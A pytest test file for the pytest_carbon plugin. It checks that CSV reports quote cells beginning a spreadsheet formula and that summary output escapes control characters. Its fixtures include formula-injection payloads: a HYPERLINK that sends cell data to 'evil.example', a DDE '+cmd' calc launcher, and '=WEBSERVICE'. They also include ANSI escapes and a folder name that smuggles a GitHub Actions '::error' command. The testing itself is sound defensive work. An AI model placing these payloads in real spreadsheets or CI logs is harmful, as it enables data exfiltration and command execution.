"""Escaping at every exit: spreadsheet formulas in the CSV, control characters on the terminal."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from reportdata import make_report

from pytest_carbon.cli import main
from pytest_carbon.reports.csv import neutralised, render_csv, write_csv, write_tests_csv
from pytest_carbon.summary import printable, summary_lines

FORMULAS = [
    'tests/x.py::test_p[=HYPERLINK("http://evil.example/?"&A1,"click")]',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


def _cells(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_text_cells_that_start_a_formula_get_a_quote(tmp_path: Path) -> None:
    report = make_report([(nodeid, 1.0) for nodeid in FORMULAS])
    report["run"]["project"] = "=WEBSERVICE(1)"
    report["machine"]["cpu_model"] = "@evil"
    path = tmp_path / "emissions.csv"
    write_csv(report, path)
    write_tests_csv(report, tmp_path / "tests.csv")
    rows = [*_cells(tmp_path / "tests.csv"), *_cells(path)]
    assert rows[-1]["experiment_id"] == "session"
    assert [row["experiment_id"] for row in rows[:-1]] == ["'" + n if n[0] in "=+-@\t\r" else n for n in FORMULAS]
    assert FORMULAS[0] == rows[0]["experiment_id"]  # starts with "tests/": left as it is
    assert {row["project_name"] for row in rows} == {"'=WEBSERVICE(1)"}
    assert {row["cpu_model"] for row in rows} == {"'@evil"}
    for row in rows:  # no cell of any row starts a formula
        assert not any(value[:1] in ("=", "+", "@", "\t", "\r") for value in row.values())


def test_csv_numbers_stay_numbers_a_negative_one_too(tmp_path: Path) -> None:
    report = make_report()
    report["machine"]["threads"] = -2  # a number (nonsense, but a number): written as one
    report["machine"]["ram_gb"] = "-3.5"  # a text that is a plain number: a spreadsheet reads -3.5
    report["region"]["pue"] = 1.25
    text = render_csv(report)
    rows = list(csv.DictReader(text.splitlines()))
    assert {row["cpu_count"] for row in rows} == {"-2"}
    assert {row["ram_total_size"] for row in rows} == {"-3.5"}
    assert float(rows[0]["energy_consumed"]) > 0
    assert neutralised(-0.5) == -0.5 and neutralised("-1e-3") == "-1e-3" and neutralised("-") == "'-"
    assert neutralised("-1+2") == "'-1+2" and neutralised("plain") == "plain" and neutralised("") == ""


HOSTILE_DIR = "sub\n::error file=app.py,line=1::x"


def test_printable_escapes_every_control_character() -> None:
    assert printable("a\nb\rc\td\x1b[31me\x00\x7f\x85\u2028") == "a\\nb\\rc\\td\\x1b[31me\\x00\\x7f\\x85\\u2028"
    assert printable("héllo 日本 🌍 <>&") == "héllo 日本 🌍 <>&"


def test_summary_lines_are_one_line_each() -> None:
    report = make_report([(f"{HOSTILE_DIR}/test_a.py::test_one", 1.0)])
    report["region"]["note"] = "a\r\x1b[2Knote"
    for verbosity in (-1, 0, 1, 2):
        for line in summary_lines(report, verbosity=verbosity):
            assert "\n" not in line and "\r" not in line and "\x1b" not in line


def _our_lines(stdout: str) -> list[str]:
    """The lines pytest-carbon wrote: from the carbon section to pytest's last line."""
    lines = stdout.splitlines()
    start = next(i for i, line in enumerate(lines) if re.match(r"^=+ carbon =+$", line))
    return lines[start + 1 : -1]


def test_a_test_folder_named_as_a_workflow_command_starts_no_line(
    carbon_pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    folder = carbon_pytester.path / HOSTILE_DIR
    folder.mkdir()
    (folder / "test_a.py").write_text("def test_one():\n    sum(range(20000))\n", encoding="utf-8")
    first = carbon_pytester.runpytest("--carbon", "--carbon-store=off", "--carbon-json=base.json", "-rN")
    assert first.ret == 0
    nodeid = json.loads((carbon_pytester.path / "base.json").read_text(encoding="utf-8"))["tests"][0]["nodeid"]
    assert "\n::error" in nodeid
    # the summary's top tests, a budget exceeded and a comparison with a baseline: all name the test
    result = carbon_pytester.runpytest(
        "--carbon",
        "-v",
        "--carbon-store=off",
        "--carbon-compare=base.json",
        "--carbon-test-budget=0.001 J",
        "--carbon-budget-mode=warn",
        "-rN",
    )
    ours = _our_lines(result.stdout.str())
    assert not [line for line in ours if line.startswith("::")], ours
    escaped = [line for line in ours if "sub\\n::error file=app.py,line=1::x/test_a.py::test_one" in line]
    assert len(escaped) >= 2, ours  # the top tests and the budget's line at least


def test_compare_command_prints_one_line_a_test(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    nodeid = f"{HOSTILE_DIR}/test_a.py::test_one"
    base, new = tmp_path / "a.json", tmp_path / "b.json"
    base.write_text(json.dumps(make_report([(nodeid, 1.0)])), encoding="utf-8")
    new.write_text(json.dumps(make_report([(nodeid, 5.0)], run_id="1" * 32)), encoding="utf-8")
    main(["compare", str(base), str(new)])
    out = capsys.readouterr().out
    assert "sub\\n::error" in out
    assert not [line for line in out.splitlines() if line.startswith("::")]
